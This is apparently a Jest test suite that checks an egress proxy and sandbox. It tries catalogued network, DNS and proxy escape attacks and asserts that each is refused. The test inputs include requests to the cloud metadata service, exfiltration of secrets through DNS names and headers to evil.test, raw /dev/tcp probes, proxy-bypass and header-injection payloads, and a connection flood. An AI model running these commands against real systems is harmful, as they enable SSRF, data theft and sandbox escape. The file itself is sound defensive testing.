// Network, DNS and Proxy of docs/attacks.md, each between two calls that must pass.
import { createServer } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { openTestSandbox, sh } from '../sandbox/open-test-sandbox.ts';
import { type Attempt, openConfined, ownAddress, proxy, refusals } from './confined.ts';

let world: Awaited<ReturnType<typeof openConfined>>;
const here = ownAddress();

beforeAll(async () => {
  world = await openConfined();
  expect(await world.sink.isListening()).toBe(true);
});
afterAll(() => world.close());

/** A request as its bytes, and the first line of the answer. */
const raw = (text: string) =>
  `printf '${text}' | timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -1 <&3' | tr -d '\\r'`;
const connectTo = (authority: string) =>
  `${raw(`CONNECT ${authority} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`)};`;
const plain = 'curl -sk -m 3 --noproxy "*"';
const proxied = `curl -sk -m 3 -x ${proxy}`;
/** Speaks to an address; prints REACHED with whatever came back or when the connection stood. */
const speak = (kind: 'tcp' | 'udp', host: string, port: number | string) =>
  kind === 'tcp'
    ? `timeout 2 bash -c 'exec 3<>/dev/tcp/${host}/${port} && echo canary >&3 && echo REACHED ${host} ${port}' 2>/dev/null;`
    : `timeout 0.3 bash -c 'exec 3<>/dev/udp/${host}/${port} && echo canary >&3 && echo canary >&3 && head -c1 <&3 && echo REACHED' 2>/dev/null;`;
const each = (hosts: readonly string[], line: (host: string) => string) =>
  hosts.map(line).join(' ');

async function refuses(line: string, rules: readonly string[]): Promise<Attempt> {
  const attempt = await world.attack(line);
  expect(attempt.reached).toEqual([]);
  expect(attempt.dialled).toEqual([]);
  expect(attempt.output).not.toMatch(/REACHED|hello/);
  for (const rule of rules) expect(refusals(attempt.lines)).toContain(rule);
  return attempt;
}

const services = [21, 22, 23, 25, 110, 143, 389, 445, 587, 1433, 1521, 3306, 3389, 5432, 5984];
const stores = [6379, 9200, 11211, 27017];

describe('Network', () => {
  it('N2: takes a direct connection to a listed host to the gate, and not to the address it names', async () => {
    const attempt = await world.attack(
      `${plain} --resolve allowed.test:443:198.51.100.7 https://allowed.test/canary-N2`,
    );
    expect(attempt.output).toBe('hello');
    expect(attempt.dialled).toEqual(['93.184.215.14:443']);
    expect(attempt.lines).toMatchObject([{ decision: 'allowed', rule: 'policy:allowed.test' }]);
  });

  it.each([
    [
      'N1 without proxy variables',
      `${plain} https://denied.test/canary-N1; ${plain} --resolve denied.test:443:93.184.215.14 https://denied.test/canary-N1`,
      ['name-not-listed denied.test', 'host-not-listed denied.test'],
    ],
    [
      'N3 the banner of SSH',
      `${speak('tcp', 'allowed.test', 22)} ${connectTo('allowed.test:22')}`,
      ['connect-port allowed.test'],
    ],
    [
      'N5 a service of the host',
      `${speak('tcp', here, 'SINK')} ${speak('udp', here, 'SINK')} ${connectTo(`${here}:SINK`)} ${connectTo('host.docker.internal:SINK')} ${speak('tcp', 'localhost', 'SINK')}`,
      [`ip-literal ${here}`, 'host-not-listed host.docker.internal'],
    ],
    [
      'N6 a sweep of private addresses',
      `${each(['10.0.0.1', '172.17.0.1', '192.168.0.1', '192.168.122.1', '100.64.0.1'], (one) => `${speak('tcp', one, 22)} ${speak('tcp', one, 'SINK')} ${plain} http://${one}/canary;`)}`,
      ['ip-literal 10.0.0.1', 'ip-literal 172.17.0.1', 'ip-literal 192.168.0.1'],
    ],
    [
      'N7 a token of the metadata service',
      `${plain} -X PUT http://169.254.169.254/latest/api/token; ${plain} http://169.254.169.254/latest/meta-data/`,
      ['ip-literal 169.254.169.254'],
    ],
    [
      'N8 link-local addresses',
      `${each(['169.254.0.1', '169.254.170.2', '169.254.255.254', '[fe80::1]', '[fd00:ec2::254]'], (one) => `${proxied} -g http://${one}/canary; ${plain} -g http://${one}/canary;`)}`,
      ['ip-literal 169.254.170.2', 'ip-literal 169.254.255.254', 'ip-literal [fe80::1]'],
    ],
    [
      'N11 the other family first',
      `${plain} --resolve denied.test:443:[2606:4700::1111],93.184.215.14 https://denied.test/canary-N11; ${plain} -6 --resolve denied.test:443:[2606:4700::1111] https://denied.test/canary-N11`,
      ['host-not-listed denied.test'],
    ],
    [
      'N13 pages of helpers',
      `${plain} http://127.0.0.1/metrics; ${plain} ${proxy}/health; ${raw('GET cache_object://localhost/menu HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n')}; ${raw('PURGE / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')}`,
      ['ip-literal 127.0.0.1', 'malformed-authority 127.0.0.1', 'malformed-request '],
    ],
  ])('egress:closed: refuses %s', async (_name, line, rules) => {
    await refuses(line.replaceAll('SINK', String(world.sink.port)), rules);
  });

  it('N4: opens none of the ports of other services, with one line for each that is asked for', async () => {
    const ports = [...services, ...stores];
    const { lines, output } = await refuses(
      `for p in ${ports.join(' ')}; do timeout 2 bash -c "exec 3<>/dev/tcp/93.184.215.14/$p && echo REACHED $p" 2>/dev/null; curl -s -m 3 -o /dev/null -w '%{http_connect}' -x ${proxy} -p https://allowed.test:$p/; done`,
      [],
    );
    expect(output).toBe('403'.repeat(ports.length));
    expect(lines.map(({ rule, port }) => [rule, port])).toEqual(
      ports.map((port) => ['connect-port', port]),
    );
  });

  it('N9, N10: lets no packets, raw protocols or other families be made', async () => {
    const { output } = await refuses(
      `python3 - <<'PY'
import socket
def tried(name, *how):
    try:
        s = socket.socket(*how); s.settimeout(1)
        s.connect(('93.184.215.14', 9)) if how[0] == 2 else None
        s.send(b'canary'); print('SENT', name)
    except OSError as e: print('held', name)
s = socket.socket(2, 1); s.close(); print('made tcp')
tried('icmp', 2, 3, 1); tried('ping', 2, 2, 1); tried('icmp6', 10, 3, 58); tried('raw', 2, 3, 255)
tried('sctp', 2, 1, 132); tried('dccp', 2, 6, 33); tried('packet', 17, 3, 0x300)
tried('vsock', 40, 1, 0); tried('alg', 38, 5, 0); tried('bluetooth', 31, 3, 1); tried('xdp', 44, 3, 0)
tried('audit', 16, 3, 9)
PY`,
      [],
    );
    const names = 'icmp ping icmp6 raw sctp dccp packet vsock alg bluetooth xdp audit'.split(' ');
    expect(output.split('\n')).toEqual(['made tcp', ...names.map((name) => `held ${name}`)]);
  });

  it('N12: gains nothing by a relay in another view of files', async () => {
    const sibling = world.box.sandbox.sibling({ workspace: null, mounts: [] });
    const relay = await sibling.start({
      argv: [
        ...['node', '-e'],
        `const n=require('net');const to=(p,h,port)=>n.createServer(c=>{const u=n.connect(port,h);c.pipe(u).pipe(c);for(const s of [c,u])s.on('error',()=>c.destroy())}).listen(p);to(4000,'127.0.0.1',3128);to(4001,'${here}',${world.sink.port})`,
      ],
      environment: {},
      timeoutMs: 20_000,
    });
    const wait = 'until (exec 3<>/dev/tcp/127.0.0.1/4001) 2>/dev/null; do sleep 0.02; done';
    const attempt = await world.attack(
      `bash -c '${wait}'; curl -sk -m 3 -x http://127.0.0.1:4000 https://denied.test/canary-N12; echo canary | timeout 2 bash -c 'cat >/dev/tcp/127.0.0.1/4001'`,
    );
    await relay.stop();
    await sibling.close();
    expect(refusals(attempt.lines)).toEqual(['host-not-listed denied.test']);
    expect(attempt.dialled).toEqual([]);
  });

  it('N14, N16: serves a declared port inside, no other, and nobody outside', async () => {
    const sibling = world.box.sandbox.sibling({ workspace: null, mounts: [] });
    const server = await sibling.start({
      argv: [
        ...['node', '-e'],
        "require('net').createServer((s)=>s.on('error',()=>{}).end('served')).listen(47113,()=>console.log('up'))",
      ],
      environment: {},
      timeoutMs: 20_000,
    });
    const wait = 'until (exec 3<>/dev/tcp/127.0.0.1/47113) 2>/dev/null; do sleep 0.02; done';
    const { output } = await world.attack(
      `bash -c '${wait}; cat </dev/tcp/127.0.0.1/47113'; ${speak('tcp', '127.0.0.1', 47114)} ${speak('tcp', '127.0.0.1', 5432)}`,
    );
    const outside = await reach(47113);
    await server.stop();
    await sibling.close();
    expect(output).toBe('served');
    expect(outside).toBe('ECONNREFUSED');
  });

  it('N17: starves only itself by 10,000 connections and by slow ones', async () => {
    const flood = `node -e '
      const n=require("net");let made=0,over=0;
      const one=(slow)=>new Promise(r=>{const s=n.connect(3128,"127.0.0.1");s.on("connect",()=>{made++;if(slow){s.write("GET / HT");r()}});s.on("error",()=>{}).on("close",()=>{over++;r()});if(!slow)s.on("connect",()=>setImmediate(()=>s.destroy()))});
      (async()=>{for(let i=0;i<1100;i++)one(true);for(let i=0;i<100;i++)await Promise.all(Array.from({length:89},()=>one(false)));console.log(made>=10000)})().then(()=>setTimeout(()=>process.exit(),50))'`;
    const attempt = await world.attack(`ulimit -n 4096; ${flood}`, 60_000);
    expect(attempt.output).toBe('true');
    expect(refusals(attempt.lines)).toContain('connection-limit ');
    expect(attempt.reached).toEqual([]);
  });
});

describe('DNS', () => {
  it.each([
    [
      'D1 another resolver',
      `${speak('udp', '8.8.8.8', 53)} ${speak('tcp', '8.8.8.8', 53)} getent hosts probe-d1.evil.test`,
      ['name-not-listed probe-d1.evil.test'],
    ],
    [
      'D2 data in a name',
      'getent hosts c2VjcmV0.evil.test; getent hosts c2VjcmV0.allowed.test',
      ['name-not-listed c2VjcmV0.evil.test', 'name-not-listed c2VjcmV0.allowed.test'],
    ],
    [
      'D3 DNS over HTTPS',
      `${proxied} https://dns.google/dns-query?dns=canary; ${proxied} https://8.8.8.8/dns-query; ${plain} https://1.1.1.1/dns-query`,
      ['host-not-listed dns.google', 'ip-literal 8.8.8.8', 'sni-missing '],
    ],
    [
      'D4 DNS over TLS and QUIC',
      `${speak('tcp', '1.1.1.1', 853)} ${speak('udp', '1.1.1.1', 853)} ${speak('udp', '93.184.215.14', 443)} ${connectTo('allowed.test:853')}`,
      ['connect-port allowed.test'],
    ],
    [
      'D5 the resolver of a container engine',
      `${speak('udp', '127.0.0.11', 53)} ${speak('tcp', '127.0.0.11', 53)} getent hosts d5.denied.test`,
      ['name-not-listed d5.denied.test'],
    ],
    [
      'D6 files and variables that rename hosts',
      `echo '93.184.215.14 denied.test' >> /etc/hosts; echo 'alias allowed.test' > /tmp/aliases; HOSTALIASES=/tmp/aliases ${plain} https://alias/canary; ${proxied} --resolve denied.test:443:127.0.0.1 https://denied.test/canary-D6`,
      ['host-not-listed denied.test'],
    ],
    [
      'D9 an address with a name of its own',
      `${proxied} https://93.184.215.14/canary; getent hosts 93.184.215.14`,
      ['ip-literal 93.184.215.14', 'name-not-listed 14.215.184.93.in-addr.arpa'],
    ],
    [
      'D10 an end within a label',
      `printf 'CONNECT allowed.test\\0.evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -1 <&3'`,
      ['malformed-request '],
    ],
  ])('egress:closed: answers %s with nothing, and asks nobody', async (_name, line, rules) => {
    const { resolved } = await refuses(line, rules);
    expect(resolved).toEqual([]);
  });

  it('D10: reads a name in any case as the same', async () => {
    const { output, resolved } = await world.attack(`${proxied} https://AlLoWeD.tEsT/case`);
    expect([output, resolved]).toEqual(['hello', ['allowed.test']]);
  });

  it('D7, D8: dials the one address it has checked, and believes a name only by its certificate', async () => {
    const answers = [['93.184.215.14'], ['169.254.169.254'], ['93.184.215.14']];
    const other = await openConfined({
      hosts: [
        { host: 'allowed.test', rule: 'policy:allowed.test' },
        { host: 'alias.test', rule: 'policy:alias.test', rules: [{}] },
      ],
      resolve: async (name) =>
        name === 'alias.test' ? ['93.184.215.15'] : (answers.shift() ?? ['93.184.215.14']),
    });
    try {
      const attempt = await other.attack(
        `${proxied} https://allowed.test/canary-D7; ${proxied} -o /dev/null https://alias.test/canary-D8`,
      );
      expect(refusals(attempt.lines)).toEqual([
        'private-address allowed.test',
        'certificate alias.test',
      ]);
      expect(other.box.dialled).toEqual([
        '93.184.215.14:443',
        '93.184.215.15:443',
        '93.184.215.14:443',
      ]);
      expect(other.box.resolved).toEqual([
        'allowed.test',
        'allowed.test',
        'alias.test',
        'allowed.test',
      ]);
      expect(attempt.reached).toEqual([]);
    } finally {
      await other.close();
    }
  });
});

const numerals = ['2130706433', '0x7f000001', '0177.0.0.1', '127.1', '[::1]', '[::ffff:127.0.0.1]'];
const malformed = ['evil.test#.allowed.test', 'allowed.test%00.evil.test', 'allowed.test\\\\evil'];

describe('Proxy', () => {
  it.each([
    ['P1 a host that is not listed', connectTo('denied.test:443'), ['host-not-listed denied.test']],
    [
      'P2 names that look like a listed one',
      connectTo('notallowed.test:443') + connectTo('allowed.test.evil.test:443'),
      ['host-not-listed notallowed.test', 'host-not-listed allowed.test.evil.test'],
    ],
    [
      'P3 TLS without a name in an allowed tunnel',
      'openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:443 -noservername </dev/null >/dev/null 2>&1',
      ['sni-missing allowed.test'],
    ],
    [
      'P4 what is not TLS in an allowed tunnel',
      raw('CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nSSH-2.0-canary\\r\\n'),
      ['not-tls allowed.test'],
    ],
    [
      'P5 ports at the edges',
      each(['22', '25', '0', '442', '444', '65535', '65536'], (port) =>
        connectTo(`allowed.test:${port}`),
      ),
      ['connect-port allowed.test'],
    ],
    [
      'P6 addresses in every notation',
      each(numerals, (host) => connectTo(`${host}:443`)),
      numerals.map((host) => `ip-literal ${host}`),
    ],
    [
      'P7 malformed names',
      each(malformed, (host) => connectTo(`${host.replaceAll('%', '%%')}:443`)),
      ['malformed-request ', 'malformed-authority allowed.test%00.evil.test'],
    ],
    [
      'P8 two hosts in one request',
      `${raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n')}; ${raw('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: denied.test\\r\\n\\r\\n')}`,
      ['host-conflict allowed.test'],
    ],
    [
      'P9 upgrades and other methods',
      `${proxied} -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://allowed.test/; ${proxied} --http2 http://allowed.test/; ${raw('TRACE http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')}; ${raw('CONNECT-UDP allowed.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')}`,
      ['upgrade allowed.test', 'plain-http allowed.test', 'malformed-request '],
    ],
    [
      'P11 other schemes',
      `${proxied} ftp://allowed.test/; ${each(['gopher', 'ftp', 'ws'], (scheme) => `${raw(`GET ${scheme}://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n`)};`)} ${raw('GET file:///etc/passwd HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')}`,
      ['scheme allowed.test', 'scheme '],
    ],
    [
      'P12 every way to leave the proxy out',
      `https_proxy=${proxy} NO_PROXY='*' curl -sk -m 3 --resolve denied.test:443:93.184.215.14 https://denied.test/canary; ALL_PROXY= ${plain} --connect-to denied.test:443:93.184.215.14:443 https://denied.test/canary; http_proxy=direct:// curl -s -m 3 http://denied.test/canary`,
      ['host-not-listed denied.test'],
    ],
    [
      'P15 a secret in header, body, path and name, plain and encoded',
      `${proxied} -H 'x: canary' -d canary https://denied.test/canary; ${proxied} -d "$(printf canary | base64)" https://denied.test/%63anary; ${plain} -d canary http://denied.test/; getent hosts Y2FuYXJ5.evil.test`,
      ['host-not-listed denied.test', 'name-not-listed Y2FuYXJ5.evil.test'],
    ],
  ])('egress:closed: refuses %s', async (_name, line, rules) => {
    await refuses(line, rules);
  });

  it('P10: judges a redirect anew', async () => {
    const { reached, lines, output } = await world.attack(
      `${proxied} -L https://allowed.test/hop?https://denied.test/canary; ${proxied} -L https://allowed.test/hop?http://169.254.169.254/latest`,
    );
    expect(reached.map((one) => one.split(' ', 2)[1])).toEqual([
      '/hop?https://denied.test/canary',
      '/hop?http://169.254.169.254/latest',
    ]);
    expect(output).toContain('ip-literal');
    expect(refusals(lines)).toEqual(['host-not-listed denied.test', 'ip-literal 169.254.169.254']);
  });

  it('P16: keeps one call one line, whatever its text', async () => {
    const { lines } = await refuses(
      `${raw('GET http://denied.test/a%%0d%%0a{"decision":"allowed"}\\033[31m HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n')}; ${raw('CONNECT den"ied.test\\u202e:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')}; ${proxied} -A 'x"}{' http://denied.test/%0d%0aGET`,
      ['host-not-listed denied.test'],
    );
    expect(lines).toHaveLength(3);
    for (const line of lines) {
      expect(line.decision).toBe('refused');
      // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are the subject
      expect(`${line.host}${line.path}`).not.toMatch(/[\u0000-\u001f\u007f\u202e]/);
    }
  });

  it('P13, P14: holds a listed host to reading, and a model to its own calls, with no foreign credential', async () => {
    const asked: string[] = [];
    const model = createServer((request, response) => {
      asked.push(`${request.method} ${request.url} ${request.headers['x-api-key']}`);
      response.end('{}');
    });
    await new Promise<void>((resolve) => model.listen(0, '127.0.0.1', resolve));
    const { port } = model.address() as AddressInfo;
    const inject = {
      header: 'authorization',
      fromEnv: 'KEY',
      value: 'Bearer ours',
      strip: ['key'],
    };
    const paths = ['/control-*', '/read/**'];
    const other = await openConfined({
      trustsOrigin: true,
      hosts: [
        { host: 'allowed.test', rule: 'policy:x', rules: [{ methods: ['GET'], paths, inject }] },
      ],
      routes: [
        {
          host: 'model.sallyport.internal',
          name: 'model',
          upstream: `http://127.0.0.1:${port}`,
          paths: ['/v1/messages'],
          methods: ['POST'],
          header: { name: 'x-api-key', value: 'ours' },
        },
      ],
    });
    const api = 'http://model.sallyport.internal';
    try {
      const attempt = await other.attack(
        `${proxied} -H 'authorization: Bearer theirs' -H 'x-api-key: theirs' -H 'cookie: theirs' 'https://allowed.test/read/x?key=theirs'; ` +
          `${proxied} -T /etc/hosts https://allowed.test/read/x; ${proxied} -d canary https://allowed.test/gists; ${proxied} https://allowed.test/canary; ` +
          `${plain} -H 'x-api-key: theirs' -d '{}' ${api}/v1/messages; ${plain} -d canary ${api}/v1/files; ${plain} -d canary --path-as-is ${api}/v1/messages/../files; ${plain} ${api}/v1/messages`,
      );
      expect(attempt.reached).toHaveLength(1);
      expect(attempt.reached[0]).toMatch(/^GET \/read\/x HTTP/);
      expect(attempt.reached[0]).toContain('authorization: Bearer ours');
      expect(attempt.reached[0]).not.toContain('theirs');
      expect(asked).toEqual(['POST /v1/messages ours']);
      expect(refusals(attempt.lines).map((line) => line.split(' ')[0])).toEqual([
        ...['method', 'path', 'path'],
        ...['path', 'path', 'method'],
      ]);
    } finally {
      await other.close();
      model.close();
    }
  });

  it('P18: is not there for anybody outside the sandbox', async () => {
    expect(await reach(3128)).toBe('ECONNREFUSED');
    const other = await openTestSandbox({ port: world.origin.port, hosts: [] });
    const { output } = await sh(other.sandbox, `${proxied} https://allowed.test/canary-P18`);
    await other.sandbox.close();
    expect(output).toBe('');
    expect(refusals(other.calls)).toEqual(['host-not-listed allowed.test']);
    await refuses(connectTo('denied.test:443'), ['host-not-listed denied.test']);
  });
});

/** How this machine itself fares on a port of its loopback. */
function reach(port: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    socket.on('connect', () => resolve('connected'));
    socket.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? ''));
  });
}
